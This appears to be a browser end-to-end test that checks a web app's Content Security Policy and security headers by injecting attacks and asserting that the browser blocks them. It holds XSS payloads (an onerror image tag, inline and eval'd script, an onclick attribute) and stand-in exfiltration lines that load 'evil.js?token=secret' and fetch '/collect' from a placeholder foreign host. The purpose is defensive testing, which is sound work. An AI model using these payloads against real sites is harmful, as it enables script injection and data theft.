// Needs the build and its headers, which limit what the browser lets a page do.
import { workouts } from '#domain/site/workouts.ts'
import { firstQuestionOf } from './answering.ts'
import { expect, test } from './visit.ts'

const FOREIGN = 'https://elsewhere.example'

test.use({ breaksPolicy: true })

type Planted = readonly [tag: 'script' | 'iframe' | 'base' | 'form' | 'style', properties: object]

/** Adds an element to the page; submits it if it is a form. */
function plant([tag, properties]: Planted): void {
  const element = Object.assign(document.createElement(tag), properties)
  document.body.append(element)
  if (element instanceof HTMLFormElement) element.submit()
}

/** What an attacker plants, and the directive that blocks it. */
const PLANTED: readonly (readonly [
  what: string,
  directive: string,
  attack: Planted | (() => void),
])[] = [
  [
    'a script made from a text',
    'require-trusted-types-for',
    ['script', { textContent: 'window.planted = true' }],
  ],
  // The browser checks a script's URL twice: as a trusted type, if our own trusted-types policy does not exist yet, and against the
  // allowed hosts.
  [
    'a script of another host',
    'script-src-elem|require-trusted-types-for',
    ['script', { src: `${FOREIGN}/evil.js?token=secret` }],
  ],
  // Runs in a timer, because the browser lets the test's own code evaluate any text.
  [
    'a text run as code',
    'require-trusted-types-for',
    () => void setTimeout(() => Reflect.get(window, 'eval')('window.planted = true')),
  ],
  [
    'an attribute run as code',
    'require-trusted-types-for|script-src-attr',
    () => document.body.setAttribute('onclick', 'window.planted = true'),
  ],
  [
    'a text parsed as HTML',
    'require-trusted-types-for',
    () => {
      document.body.innerHTML = '<img src="x" onerror="window.planted = true">'
    },
  ],
  [
    'a policy of trusted types',
    'trusted-types',
    () => void trustedTypes?.createPolicy('stranger', { createHTML: (text) => text }),
  ],
  [
    'a request to another host',
    'connect-src',
    () =>
      void fetch('https://elsewhere.example/collect').then(
        () => Object.assign(window, { planted: true }),
        () => undefined,
      ),
  ],
  ['a frame of another host', 'frame-src', ['iframe', { src: `${FOREIGN}/` }]],
  ['a form to another host', 'form-action', ['form', { action: `${FOREIGN}/` }]],
  ['another base for the addresses', 'base-uri', ['base', { href: `${FOREIGN}/` }]],
  ['styles in the page', 'style-src-elem', ['style', { textContent: 'body { display: none }' }]],
]

test(
  'the browser runs no code that an attacker injects into the page, at load or later, and the page has the headers of a live product',
  { tag: '@7.strict-policy' },
  async ({ page, visit, blocked }) => {
    await page.route('**/', async (route) => {
      const response = await route.fetch()
      await route.fulfill({
        response,
        body: (await response.text()).replace(
          '</body>',
          '<script>window.planted = true</script><p onclick="">planted</p></body>',
        ),
      })
    })
    const response = await page.goto('/')
    expect(response?.headers()).toMatchObject({
      'x-content-type-options': 'nosniff',
      'referrer-policy': 'strict-origin-when-cross-origin',
      'cross-origin-opener-policy': 'same-origin-allow-popups',
      'strict-transport-security': expect.stringMatching(/^max-age=\d{8}/),
      'permissions-policy': expect.stringContaining('camera=()'),
    })
    await expect(page.getByText('planted')).toBeAttached()
    await expect
      .poll(() => blocked.filter((what) => /^script-src-(?:elem|attr) inline/.test(what)))
      .toHaveLength(2)
    expect(await page.evaluate(() => 'planted' in window)).toBe(false)

    // Answers requests that the policy allows by mistake, so that none leaves this machine.
    await page.route(
      (url) => url.origin === FOREIGN,
      (route) =>
        route.fulfill({
          body: 'window.planted = true',
          contentType: 'text/javascript',
          headers: { 'access-control-allow-origin': '*' },
        }),
    )
    await page.goto(firstQuestionOf(workouts).path)
    await visit.settles()
    // Until the demo's service worker controls the page, the page may be reloaded.
    await page.waitForFunction(() => navigator.serviceWorker.controller !== null)
    for (const [what, directive, attack] of PLANTED) {
      blocked.length = 0
      const planting =
        typeof attack === 'function' ? page.evaluate(attack) : page.evaluate(plant, attack)
      await planting.catch(() => undefined)
      await expect
        .poll(() => blocked.join('\n'), what)
        .toMatch(new RegExp(`^(?:${directive})`, 'm'))
      expect(await page.evaluate(() => 'planted' in window), what).toBe(false)
    }
  },
)
